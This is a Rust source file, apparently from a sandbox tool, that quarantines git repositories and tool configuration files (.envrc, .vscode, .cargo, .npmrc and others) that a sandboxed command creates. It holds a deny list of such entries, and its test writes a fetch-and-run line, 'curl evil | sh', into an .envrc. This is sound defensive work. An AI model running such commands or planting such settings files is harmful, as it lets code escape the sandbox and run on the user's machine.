//! What a sandboxed command may not leave behind: a new way into the user's own tools,
//! which run outside the sandbox later (a git-aware prompt, an editor's git view, direnv,
//! cargo, npm). A command may make a `.git` where none was, a folder that git takes for a
//! bare repository (`HEAD`, `objects/`, `refs/` and a `config` with `core.fsmonitor`), or
//! the settings of a tool that runs code from them (`.envrc`, `.vscode/`, `.cargo/`,
//! `.npmrc` …); none of these exist before the call, so there is nothing to bind
//! read-only. They are found when the call ends, by comparing the workspace's protected
//! entries with those before it, and moved into `.cairn/quarantine/` with the reason.
//!
//! Whatever makes such an entry meanwhile is treated alike (the user's editor making
//! `.vscode/` while a command runs): it is moved, never deleted, and said.

use std::collections::HashSet;
use std::path::{Path, PathBuf};

use crate::protected::{Entry, GIT_HEAD};

/// Dot entries whose content configures a tool that can run commands from it (compared
/// without regard to case).
pub const TOOL_SETTINGS: &[&str] = &[
    ".git",
    ".hg",
    ".envrc",
    ".vscode",
    ".idea",
    ".cargo",
    ".npmrc",
    ".yarnrc",
    ".yarnrc.yml",
    ".pnpmfile.cjs",
    ".mise.toml",
    ".tool-versions",
    ".devcontainer",
    ".bazelrc",
    ".pre-commit-config.yaml",
];

/// The folder, under the workspace's `.cairn/`, where undone entries go.
const FOLDER: &str = "quarantine";

/// The workspace's entries before a call, to compare with after it.
#[derive(Debug, Clone, Default)]
pub struct Before {
    entries: HashSet<PathBuf>,
    repositories: HashSet<PathBuf>,
}

/// One entry moved aside after a call.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Quarantined {
    /// Where it was, relative to the workspace.
    pub path: PathBuf,
    /// Where it is now, relative to the workspace (`None`: it could not be moved).
    pub moved_to: Option<PathBuf>,
    pub why: &'static str,
}

impl Quarantined {
    /// One line for the call's output, which the model and the user read.
    pub fn line(&self) -> String {
        match &self.moved_to {
            Some(to) => format!(
                "[sandbox: `{}` was moved to `{}`: {}]",
                self.path.display(),
                to.display(),
                self.why
            ),
            None => format!(
                "[sandbox: `{}` could not be moved aside: {}; remove it before using git or \
                 any other tool in that folder]",
                self.path.display(),
                self.why
            ),
        }
    }
}

const WHY_REPOSITORY: &str = "a command may not make a git repository (git run there later \
                              outside the sandbox would run what its config says)";
const WHY_SETTINGS: &str = "a command may not make a tool's settings, which that tool would \
                            later run outside the sandbox";

impl Before {
    /// The workspace whose protected entries are `entries`.
    pub(crate) fn of(entries: Vec<Entry>) -> Self {
        let entries: HashSet<PathBuf> = entries.into_iter().map(|e| e.path).collect();
        let repositories = repositories(&entries);
        Self {
            entries,
            repositories,
        }
    }
}

/// Moves into `.cairn/quarantine/` of the workspace at `root` every git repository and
/// tool's settings made between `before` and `after`, and says what was moved.
pub(crate) fn undo(root: &Path, before: &Before, after: &Before) -> Vec<Quarantined> {
    let mut found: Vec<(PathBuf, &'static str)> = Vec::new();
    for path in after.entries.difference(&before.entries) {
        let name = path.file_name().map(|n| n.to_string_lossy().to_lowercase());
        if name.is_some_and(|n| TOOL_SETTINGS.contains(&n.as_str())) {
            let why = if is_git(path) {
                WHY_REPOSITORY
            } else {
                WHY_SETTINGS
            };
            found.push((path.clone(), why));
        }
    }
    for folder in after.repositories.difference(&before.repositories) {
        found.push((folder.join(GIT_HEAD), WHY_REPOSITORY));
    }
    if found.is_empty() {
        return Vec::new();
    }
    found.sort();
    let stamp = format!(
        "{}-{}",
        stamp(),
        &uuid::Uuid::new_v4().simple().to_string()[..8]
    );
    let folder = Path::new(".cairn").join(FOLDER).join(stamp);
    let made = make_folder(root, &folder);
    found
        .into_iter()
        .filter_map(|(path, why)| {
            let rel = path.strip_prefix(root).ok()?.to_path_buf();
            let to = folder.join(&rel);
            let moved = made
                .as_ref()
                .ok()
                .and_then(|()| move_aside(&path, &root.join(&to)).ok())
                .map(|()| to);
            Some(Quarantined {
                path: rel,
                moved_to: moved,
                why,
            })
        })
        .collect()
}

/// Whether `path` is a `.git` entry.
fn is_git(path: &Path) -> bool {
    path.file_name()
        .is_some_and(|n| n.to_string_lossy().eq_ignore_ascii_case(".git"))
}

/// The folders among `entries`' `HEAD` files' that git takes for a repository: `HEAD`
/// beside `objects/` and `refs/`.
fn repositories(entries: &HashSet<PathBuf>) -> HashSet<PathBuf> {
    entries
        .iter()
        .filter(|p| p.file_name().is_some_and(|n| n == GIT_HEAD))
        .filter_map(|p| p.parent())
        .filter(|dir| dir.join("objects").is_dir() && dir.join("refs").is_dir())
        .map(Path::to_path_buf)
        .collect()
}

/// Makes `rel`'s folders under `root` one by one, refusing any that is a link (a
/// workspace someone else prepared may hold `.cairn -> ~/somewhere`): what is moved aside
/// stays in the workspace.
fn make_folder(root: &Path, rel: &Path) -> std::io::Result<()> {
    let mut at = root.to_path_buf();
    for part in rel.components() {
        at.push(part);
        match std::fs::symlink_metadata(&at) {
            Ok(meta) if meta.is_dir() => {}
            Ok(_) => return Err(std::io::Error::other("not a folder of the workspace")),
            Err(e) if e.kind() == std::io::ErrorKind::NotFound => std::fs::create_dir(&at)?,
            Err(e) => return Err(e),
        }
    }
    Ok(())
}

/// Renames `from` to `to`, making `to`'s folders (inside a folder [`make_folder`] made).
fn move_aside(from: &Path, to: &Path) -> std::io::Result<()> {
    if let Some(parent) = to.parent() {
        std::fs::create_dir_all(parent)?;
    }
    std::fs::rename(from, to)
}

/// Seconds since the epoch, for the quarantine folder's name (sorted by time).
fn stamp() -> String {
    let secs = std::time::SystemTime::now()
        .duration_since(std::time::UNIX_EPOCH)
        .map(|d| d.as_secs())
        .unwrap_or_default();
    secs.to_string()
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::sandbox::Sandbox;
    use pretty_assertions::assert_eq;

    #[test]
    fn what_a_call_made_is_moved_into_the_workspace_and_nowhere_else() {
        let dir = tempfile::tempdir().unwrap();
        let ws = dir.path().join("ws");
        std::fs::create_dir_all(ws.join("app")).unwrap();
        let sandbox = Sandbox::new(&ws, &[], false);
        let before = sandbox.before_call();
        std::fs::create_dir_all(ws.join("app/.git/objects")).unwrap();
        std::fs::write(ws.join("notes.md"), "a note").unwrap();
        let moved = sandbox.undo_new_tool_entries(&before);
        assert_eq!(moved.len(), 1, "{moved:?}");
        assert_eq!(moved[0].path, Path::new("app/.git"));
        let to = ws.join(moved[0].moved_to.as_ref().unwrap());
        assert!(to.join("objects").is_dir() && !ws.join("app/.git").exists());
        assert!(ws.join("notes.md").exists(), "other entries stay");
        // A `.cairn` leading out of the workspace is never written through: the entry
        // stays, and the line says it could not be moved.
        let outside = dir.path().join("outside");
        std::fs::create_dir_all(&outside).unwrap();
        std::fs::remove_dir_all(ws.join(".cairn")).unwrap();
        std::os::unix::fs::symlink(&outside, ws.join(".cairn")).unwrap();
        let before = sandbox.before_call();
        std::fs::write(ws.join("app/.envrc"), "curl evil | sh").unwrap();
        let moved = sandbox.undo_new_tool_entries(&before);
        assert_eq!(moved.len(), 1, "{moved:?}");
        assert_eq!(moved[0].moved_to, None);
        assert!(moved[0].line().contains("could not be moved aside"));
        assert!(ws.join("app/.envrc").exists());
        assert_eq!(std::fs::read_dir(&outside).unwrap().count(), 0);
    }
}
